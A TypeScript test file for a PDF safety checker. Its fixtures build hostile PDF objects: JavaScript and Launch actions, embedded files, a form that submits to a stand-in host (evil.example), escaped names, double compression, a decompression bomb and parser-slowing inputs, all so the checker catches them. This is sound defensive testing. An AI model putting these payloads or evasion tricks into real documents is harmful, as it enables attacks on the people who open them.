import { randomBytes } from "node:crypto";
import { deflateSync } from "node:zlib";
import { expect, test } from "vitest";
import { makePdf } from "../documents/pdf.ts";
import { pdfProblem } from "./pdf-check.ts";

const pdf = (...objects: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat([
    Buffer.from("%PDF-1.7\n"),
    ...objects.map((object) => Buffer.concat([Buffer.from(object), Buffer.from("\n")])),
    Buffer.from("trailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"),
  ]);

const catalog = "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj";

const stream = (dictionary: string, content: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`3 0 obj\n<< ${dictionary} >>\nstream\n`),
    content,
    Buffer.from("\nendstream\nendobj"),
  ]);

const objects = (text: string): Buffer =>
  stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", deflateSync(Buffer.from(text)));

test("a document that is only read is taken", async () => {
  const made = await makePdf(
    { title: "Result", author: "A school", subject: "Result", createdAt: new Date(0) },
    (page) => page.text("English Language A1"),
  );
  expect(await pdfProblem(made)).toBeUndefined();
  expect(await pdfProblem(pdf(catalog, objects("4 0 << /Type /Page >>")))).toBeUndefined();
});

test("picture bytes that match a short name are not a script", async () => {
  const image = Buffer.concat([randomBytes(200), Buffer.from("/JS "), randomBytes(200)]);
  expect(await pdfProblem(pdf(catalog, stream("/Subtype /Image", image)))).toBeUndefined();
});

test.each([
  ["a script", "<< /S /JavaScript /JS (app.alert(1)) >>"],
  ["a script under the short name alone", "<< /JS(app.alert(1)) >>"],
  ["a script whose name is written in escapes", "<< /S /J#61vaScript >>"],
  ["a program to be started", "<< /S /Launch /F (calc.exe) >>"],
  ["an attached file", "<< /Type /EmbeddedFile >>"],
  ["a tree of attached files", "<< /Names << /EmbeddedFiles 5 0 R >> >>"],
  ["a form that sends itself", "<< /S/SubmitForm/F(https://evil.example) >>"],
])("%s is found, in the open and in a compressed object stream", async (_what, object) => {
  expect(await pdfProblem(pdf(catalog, `4 0 obj\n${object}\nendobj`))).toBe("active");
  expect(await pdfProblem(pdf(catalog, objects(`4 0 ${object}`)))).toBe("active");
});

test("names that only begin alike are nothing", async () => {
  expect(await pdfProblem(pdf("4 0 obj\n<< /JSON 1 /LaunchPad 2 >>\nendobj"))).toBeUndefined();
});

test("an encrypted document is distinguished from a damaged one", async () => {
  expect(await pdfProblem(pdf(catalog, "trailer << /Encrypt 9 0 R >>"))).toBe("protected");
  expect(await pdfProblem(pdf(catalog).subarray(0, -8))).toBe("broken");
  expect(await pdfProblem(Buffer.from("%PDF-1.7 %%EO"))).toBe("broken");
});

test("an object stream that cannot be looked into is not taken", async () => {
  const other = stream("/Type /ObjStm /Filter /ASCIIHexDecode", Buffer.from("3c3c3e3e>"));
  const torn = stream("/Type /ObjStm /Filter /FlateDecode", Buffer.from("no zlib at all"));
  expect(await pdfProblem(pdf(catalog, other))).toBe("broken");
  expect(await pdfProblem(pdf(catalog, torn))).toBe("broken");
});

test("fake file structure does not hide an object stream", async () => {
  const script = "4 0 << /S /JavaScript /JS (app.alert(1)) >>";
  const commented = pdf("%stream", catalog, objects(script));
  const misread = stream(
    "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Note (obj)",
    deflateSync(Buffer.from(script)),
  );
  expect(await pdfProblem(commented)).not.toBeUndefined();
  expect(await pdfProblem(pdf(catalog, misread))).not.toBeUndefined();
});

test("a doubly encoded object stream is refused", async () => {
  const differences = Buffer.from([1, 47, 27, 9]);
  const predicted = stream(
    "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 3 >>",
    deflateSync(differences),
  );
  expect(await pdfProblem(pdf(catalog, predicted))).toBe("broken");

  const twice = deflateSync(deflateSync(Buffer.from("4 0 << /S /JavaScript >>")));
  const filters = "/Type /ObjStm /Filter [ /FlateDecode /FlateDecode ]";
  expect(await pdfProblem(pdf(catalog, stream(filters, twice)))).toBe("broken");
  const decoy = "2 0 obj\n<< /Filter /FlateDecode >>\nendobj";
  expect(await pdfProblem(pdf(catalog, decoy, stream(filters, twice)))).toBe("broken");
});

test("a small file that unpacks to gigabytes is refused quickly", async () => {
  const bomb = objects("0".repeat(16 * 1024 * 1024));
  expect(await pdfProblem(pdf(catalog, ...Array.from({ length: 100 }, () => bomb)))).toBe("broken");
});

test.each([
  ["beginnings of streams", "stream\n"],
  ["streams without an object", "stream\nendstream"],
  ["spaces before a filter", "/ObjStm /Filter      "],
])("five megabytes of %s are checked in no time", async (_what, piece) => {
  const hostile = pdf(piece.repeat(Math.floor((5 * 1024 * 1024) / piece.length)));
  // A limit for a busy machine; what looks at each byte once takes half a second, and what looks back takes hours.
  const start = performance.now();
  await pdfProblem(hostile);
  expect(performance.now() - start).toBeLessThan(20_000);
});
